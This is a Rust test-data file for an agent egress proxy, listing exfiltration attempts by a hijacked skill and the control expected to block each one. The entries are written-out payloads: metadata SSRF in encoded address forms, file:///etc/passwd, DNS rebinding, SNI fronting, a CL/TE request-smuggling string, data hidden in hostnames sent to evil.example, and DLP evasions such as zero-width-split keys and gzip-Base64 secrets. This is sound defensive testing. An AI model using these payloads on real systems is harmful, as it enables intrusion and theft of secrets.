//! What the hijacked skill tries, one after another, as data: how, and what must come of it.

use backstop_model::control::Control;

/// How one attempt is made.
#[derive(Debug, Clone, Copy)]
pub(super) enum How {
    /// CONNECT, then HTTPS with this server name.
    Https { authority: &'static str, sni: &'static str },
    /// CONNECT, then these bytes instead of TLS.
    Bytes { authority: &'static str, bytes: &'static [u8] },
    /// CONNECT, then a ClientHello with Encrypted ClientHello.
    Ech { authority: &'static str, sni: &'static str },
    /// A plain request in absolute form; redirects are followed as a naive client would.
    Get { target: &'static str, host: &'static str },
    /// A JSON body to the honest plain-HTTP host: what it carries is the attempt.
    Post { body: &'static str },
    /// Bytes straight to the proxy; `{auth}` stands for the credential's header line.
    Raw { head: &'static str },
    /// HTTPS to this host without the session's credential.
    Stranger { authority: &'static str },
}

/// One attempt and what must come of it: `None` where it must pass.
#[derive(Debug, Clone, Copy)]
pub(super) struct Attack {
    /// What it is, for the table.
    pub(super) name: &'static str,
    /// How it is made.
    pub(super) how: How,
    /// The control that must refuse it.
    pub(super) refused_by: Option<Control>,
}

const fn honest(name: &'static str, how: How) -> Attack {
    Attack { name, how, refused_by: None }
}

const fn attack(name: &'static str, refused_by: Control, how: How) -> Attack {
    Attack { name, how, refused_by: Some(refused_by) }
}

const fn https(authority: &'static str, sni: &'static str) -> How {
    How::Https { authority, sni }
}

const fn get(target: &'static str, host: &'static str) -> How {
    How::Get { target, host }
}

/// Sixty-odd words out of the middle of `plan.md`, as somebody would hide them: other case, other
/// line breaks, a word dropped, begun and ended in words of the agent's own.
const PASSAGE: &str = r#"{"note":"Tomorrow's tides:\nWE RECKON WITH ELEVEN WEEKS FOR IT\n  and keep a reserve of three more\n> against storms - the Second Stage lowers the two Gates\nEACH of which is heavier than any load\nthat the quay has carried so far (the ground beneath the crane\n has to be STRENGTHENED before) and that work alone\ncosts as much as both gates. Sunny spells later."}"#;

/// The scenario, in order.
pub(super) const ATTACKS: &[Attack] = &[
    honest("honest: forecast over HTTPS", https("api.weather.example:443", "api.weather.example")),
    honest(
        "honest: forecast over plain HTTP",
        get("http://plain.weather.example/points/1", "plain.weather.example"),
    ),
    attack("undeclared host", Control::EgressTenant, https("evil.example:443", "evil.example")),
    attack(
        "undeclared host, plain HTTP",
        Control::EgressTenant,
        get("http://evil.example/take", "evil.example"),
    ),
    attack(
        "another tenant's host",
        Control::EgressTenant,
        https("bank.finance.example:443", "bank.finance.example"),
    ),
    attack(
        "tenant allows, skill did not declare",
        Control::EgressSkill,
        https("models.example:443", "models.example"),
    ),
    attack(
        "skill declares, tenant does not allow",
        Control::EgressTenant,
        https("archive.example:443", "archive.example"),
    ),
    attack(
        "declared host, other port",
        Control::EgressTenant,
        https("api.weather.example:8443", "api.weather.example"),
    ),
    attack(
        "metadata: 169.254.169.254",
        Control::SsrfAddress,
        get("http://169.254.169.254/latest/", "169.254.169.254"),
    ),
    attack(
        "metadata: decimal 2852039166",
        Control::SsrfAddress,
        get("http://2852039166/latest/", "2852039166"),
    ),
    attack(
        "metadata: hex 0xA9FEA9FE",
        Control::SsrfAddress,
        get("http://0xA9FEA9FE/latest/", "0xA9FEA9FE"),
    ),
    attack(
        "metadata: octal 0251.0376.0251.0376",
        Control::SsrfAddress,
        get("http://0251.0376.0251.0376/latest/", "0251.0376.0251.0376"),
    ),
    attack(
        "metadata: mapped [::ffff:a9fe:a9fe]",
        Control::SsrfAddress,
        get("http://[::ffff:a9fe:a9fe]/latest/", "[::ffff:a9fe:a9fe]"),
    ),
    attack(
        "metadata: by name in a tunnel",
        Control::SsrfAddress,
        https("metadata.google.internal:443", "metadata.google.internal"),
    ),
    attack(
        "loopback spelled by nip.io",
        Control::SsrfAddress,
        https("127-0-0-1.nip.io:443", "127-0-0-1.nip.io"),
    ),
    attack(
        "public address as literal",
        Control::SsrfLiteral,
        get("http://93.184.215.66/take", "93.184.215.66"),
    ),
    attack("file:///etc/passwd", Control::SsrfScheme, get("file:///etc/passwd", "localhost")),
    attack("gopher://", Control::SsrfScheme, get("gopher://evil.example:70/_x", "evil.example:70")),
    attack(
        "redirect into metadata, followed",
        Control::SsrfAddress,
        get("http://plain.weather.example/moved", "plain.weather.example"),
    ),
    attack(
        "declared name that resolves inside",
        Control::SsrfAddress,
        https("inside.example:443", "inside.example"),
    ),
    honest("honest: partner feed", https("rebind.example:443", "rebind.example")),
    attack(
        "the same name, rebound to metadata",
        Control::SsrfRebind,
        https("rebind.example:443", "rebind.example"),
    ),
    attack(
        "SNI fronting",
        Control::WireAuthority,
        https("api.weather.example:443", "evil.example"),
    ),
    attack(
        "encrypted ClientHello",
        Control::WireEch,
        How::Ech { authority: "api.weather.example:443", sni: "api.weather.example" },
    ),
    attack(
        "not TLS in the tunnel",
        Control::WireProtocol,
        How::Bytes {
            authority: "api.weather.example:443",
            bytes: b"SSH-2.0-exfil\r\nsecret=hunter2\r\n",
        },
    ),
    attack(
        "Host that is not the target",
        Control::WireAuthority,
        How::Raw {
            head: "GET http://plain.weather.example/ HTTP/1.1\r\nHost: evil.example\r\n{auth}\r\n",
        },
    ),
    attack(
        "request smuggling: CL and TE",
        Control::WireFraming,
        How::Raw {
            head: "POST http://plain.weather.example/ HTTP/1.1\r\nHost: plain.weather.example\r\n{auth}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        },
    ),
    attack(
        "data in a hostname",
        Control::EgressTenant,
        https(
            "onxw2zjanfxgk4tzmfrwwzltobuw4.mzxw6ytboi.evil.example:443",
            "onxw2zjanfxgk4tzmfrwwzltobuw4.mzxw6ytboi.evil.example",
        ),
    ),
    attack(
        "data in a wildcard row's hostname",
        Control::EgressSkill,
        https(
            "onxw2zjanfxgk4tzmfrwwzltobuw4.tiles.example:443",
            "onxw2zjanfxgk4tzmfrwwzltobuw4.tiles.example",
        ),
    ),
    honest(
        "honest: forecast for a note",
        How::Post { body: r#"{"note":"will it rain tomorrow?","points":[47.1,8.5],"days":3}"# },
    ),
    attack("SSN in a note", Control::DlpPii, How::Post { body: r#"{"note":"SSN 536-90-4399"}"# }),
    attack(
        "card as a JSON number",
        Control::DlpPii,
        How::Post { body: r#"{"order":{"id":7,"card":4012888888881881}}"# },
    ),
    attack(
        "key in gzip in Base64",
        Control::DlpCredential,
        How::Post {
            body: r#"{"blob":"H4sIAAAAAAAC/yvJSFXITq1UyE9TKAEy0/KLUpMTi0sUilOLyjKTUxUyixVSsnWjCi0MfXIjTEqCypzM88KLjbyTLXWA+lILFDJLAJtVRSxDAAAA"}"#,
        },
    ),
    attack(
        "key split by zero-width characters",
        Control::DlpCredential,
        How::Post {
            body: "{\"note\":\"dk-Zq\u{200b}81LmX\u{200b}4tRvB\u{200d}7nWs2\u{200b}Kc9\"}",
        },
    ),
    attack(
        "seed phrase",
        Control::DlpCredential,
        How::Post {
            body: r#"{"note":"topic inside differ web lava program off join burger help health habit"}"#,
        },
    ),
    attack(
        "a paragraph of a registered document",
        Control::DlpClassification,
        How::Post { body: PASSAGE },
    ),
    honest(
        "honest: a few words of that document",
        How::Post {
            body: r#"{"note":"the first stage drives sixty steel piles along the eastern quay"}"#,
        },
    ),
    attack(
        "banner above the session's ceiling",
        Control::DlpClassification,
        How::Post {
            body: r#"{"note":"TOP SECRET//SI//NOFORN\nThe ferry sails with the first tide."}"#,
        },
    ),
    attack(
        "CONFIDENTIAL at the head of a note",
        Control::DlpClassification,
        How::Post { body: r#"{"note":"CONFIDENTIAL\n\nThe ferry sails with the first tide."}"# },
    ),
    attack(
        "key in a query string",
        Control::DlpCredential,
        get(
            "http://plain.weather.example/points?k=dk-Zq81LmX4tRvB7nWs2Kc9",
            "plain.weather.example",
        ),
    ),
    attack(
        "no credential",
        Control::Identity,
        How::Stranger { authority: "api.weather.example:443" },
    ),
];
